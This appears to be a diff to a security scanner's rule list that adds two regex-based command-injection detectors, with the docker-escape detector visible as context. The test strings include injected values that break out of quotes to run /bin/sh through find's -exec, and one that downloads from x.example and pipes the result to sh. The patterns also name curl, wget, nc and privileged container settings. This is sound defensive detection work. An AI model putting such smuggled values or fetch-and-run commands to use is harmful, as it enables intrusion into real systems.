@@ -79,6 +79,20 @@ var injectRules = []Rule{
 		NoMatch: []string{"f() { echo; }; f"},
 	},
 	{
+		Kind: "command-injection", Family: Commands, Score: High, Places: []Place{Argument},
+		Doc:     "A value that closes the quotes it is put into and goes on with an action of find's.",
+		Pattern: `^[^\s'"]{0,64}['"]\s{1,4}-(?:exec|execdir|ok|okdir)\s{1,4}[\w/]{2,64}`,
+		Match:   []string{"a' -exec /bin/sh -c id ;"},
+		NoMatch: []string{"find . -exec ls {} +", "it's what -exec is for"},
+	},
+	{
+		Kind: "command-injection", Family: Commands, Score: High, Places: []Place{Argument},
+		Doc:     "A value that closes the quotes it is put into and goes on with a download.",
+		Pattern: `^[\w.:/@-]{0,64}["']\s{0,4}(?:&&|\|\||;|\|)\s{0,4}(?:curl|wget|bash|nc|ncat|powershell)\s{1,4}[\w./$"':-]`,
+		Match:   []string{`test" && curl x.example/n | sh && echo "`},
+		NoMatch: []string{`echo "a" && curl https://x.example`, `a quote" and curl x.example`},
+	},
+	{
 		Kind: "docker-escape", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
 		Doc:     "A pod, compose or container definition, given to be run, that shares the host's processes, devices or file system.",
 		Pattern: `(?i)(?:^|[\s{,"'])["']?(?:privileged["']?\s{0,4}:\s{0,4}true|host(?:PID|IPC)["']?\s{0,4}:\s{0,4}true|allowPrivilegeEscalation["']?\s{0,4}:\s{0,4}true|(?:pid|ipc|userns_mode)["']?\s{0,4}:\s{0,4}["']?host\b)|hostPath["']?\s{0,4}:\s{0,20}\{?\s{0,20}["']?path["']?\s{0,4}:\s{0,4}["']?(?:/|/etc|/root|/var/run/docker\.sock|/proc|/sys|/dev|/var/lib/kubelet|/home)["']?\s{0,4}(?:[\n,}]|$)|[\s"'-]/:/(?:host|mnt|rootfs|hostfs|root)\b|/var/run/docker\.sock:/|(?:SYS_ADMIN|SYS_PTRACE|SYS_MODULE)["']?\s{0,4}(?:[\n,\]]|$)`,
